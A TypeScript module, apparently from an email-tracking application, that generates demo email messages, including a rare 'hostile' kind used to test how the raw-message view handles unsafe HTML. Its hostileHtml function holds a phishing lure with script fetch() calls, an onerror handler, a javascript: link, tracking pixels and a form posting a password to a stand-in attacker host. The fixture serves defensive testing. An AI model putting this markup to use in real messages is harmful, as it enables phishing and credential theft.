import type { RenderedEmail } from '@tracker/core';
import { emailAssetKeys, type AssetStore } from '../../assets/asset-store';
import { renderEmail } from '../../services/emails/process-email';
import type { Random } from '../random';
import { ANIMATED_GIF, buildMimeMessage, messageHeaders, PIXEL_PNG, type MimeMessage } from './mime-message';

/** How a demo email's raw message is built, so every kind the raw view handles is in the data. */
export const MESSAGE_KINDS = ['responsive', 'fixed_width', 'plain_text', 'animated', 'hostile'] as const;
export type MessageKind = (typeof MESSAGE_KINDS)[number];

/** The subject every hostile demo email carries, so staff (and the tests) can find one. */
export const HOSTILE_SUBJECT = 'Action required: confirm your account';

/** The host a hostile email tries to reach; nothing may ever be requested from it. */
export const HOSTILE_HOST = 'tracker-pixel.hostile.example';

/**
 * A hostile email: a script, an inline handler, a form, a remote image (a tracking pixel), CSS
 * url() and @import, an SVG with a script and a remote image, a meta refresh and a frame.
 */
export function hostileHtml(brand: string): string {
  const at = `https://${HOSTILE_HOST}`;
  return [
    `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    `<style>@import url(${at}/import.css); body { background: url(${at}/css-background.png) } </style>`,
    `<script>fetch('${at}/script'); document.body && (document.body.dataset.pwned = 'yes');</script></head>`,
    `<body><h1>${brand}: please confirm your account</h1>`,
    `<img src="${at}/open.gif" width="1" height="1" alt="">`,
    `<img src="x" onerror="fetch('${at}/onerror')" alt="broken">`,
    `<form action="${at}/steal" method="post"><label>Password <input name="password" type="password"></label><button>Confirm</button></form>`,
    `<svg width="10" height="10"><image href="${at}/svg-image.png" width="10" height="10"/><script>fetch('${at}/svg-script')</script></svg>`,
    `<iframe src="${at}/frame"></iframe><a href="javascript:fetch('${at}/link')">Open</a>`,
    '</body></html>',
  ].join('');
}

export type DemoMessage = {
  guid: string;
  kind: MessageKind;
  fromName: string;
  fromAddress: string;
  to: string;
  subject: string;
  sentAt: Date;
  brand: string;
  html: string;
  text: string;
  /** Headers its sending platform added. */
  sendingHeaders?: ReadonlyArray<{ key: string; value: string }>;
};

function htmlFor(m: DemoMessage): string | undefined {
  switch (m.kind) {
    case 'plain_text':
      return undefined;
    case 'hostile':
      return hostileHtml(m.brand);
    case 'fixed_width':
      return m.html.replace(/<meta name="viewport"[^>]*>/, '');
    case 'animated':
      return m.html.replace(
        '<tr><td style="padding:24px">',
        '<tr><td style="padding:0"><img src="cid:banner" alt="" width="600"></td></tr><tr><td style="padding:24px">',
      );
    case 'responsive':
      return m.html.replace(
        '</head>',
        '<style>@media only screen and (max-width: 600px) { table { width: 100% !important } }</style></head>',
      );
  }
}

/** The kind of raw message a demo email gets, consistent with its animated and mobile-optimized flags. */
export function messageKind(random: Random, flags: { animated: boolean; mobileOptimized: boolean }): MessageKind {
  if (flags.animated) return 'animated';
  if (flags.mobileOptimized) return 'responsive';
  return random.weighted<MessageKind>([
    ['fixed_width', 60],
    ['plain_text', 37],
    ['hostile', 3],
  ]);
}

/** The raw message of a demo email. */
export function demoMimeMessage(m: DemoMessage): MimeMessage {
  return {
    fromName: m.fromName,
    fromAddress: m.fromAddress,
    to: m.to,
    subject: m.subject,
    date: m.sentAt,
    text: m.kind === 'hostile' ? `${m.brand}: please confirm your account` : m.text,
    html: htmlFor(m),
    images:
      m.kind === 'animated'
        ? [
            { cid: 'banner', mimeType: 'image/gif', bytes: ANIMATED_GIF },
            { cid: 'logo', mimeType: 'image/png', bytes: PIXEL_PNG },
          ]
        : undefined,
    boundary: `demo-${m.guid}`,
    extraHeaders: m.sendingHeaders,
  };
}

/**
 * Writes a demo email's raw MIME message and its rendered JSON to the asset store and answers the
 * rendered form (whose text and HTML the database keeps too). It is rendered from the parts the
 * message was built from rather than parsed back: the same result (a test holds them together),
 * without parsing 3,000 messages on every first start.
 */
export async function storeDemoMessage(assets: AssetStore, m: DemoMessage): Promise<{ rendered: RenderedEmail; size: number }> {
  const message = demoMimeMessage(m);
  const raw = buildMimeMessage(message);
  const rendered = renderEmail({
    headers: messageHeaders(message),
    subject: message.subject,
    fromName: message.fromName,
    fromAddress: message.fromAddress,
    date: message.date.toISOString(),
    html: message.html,
    text: message.text,
    images: (message.images ?? []).map((i) => ({ contentId: i.cid, filename: null, mimeType: i.mimeType, bytes: i.bytes })),
  });
  const keys = emailAssetKeys(m.guid);
  await assets.put(keys.mime, raw, 'message/rfc822');
  await assets.put(keys.rendered, JSON.stringify(rendered), 'application/json');
  return { rendered, size: Buffer.byteLength(raw) };
}
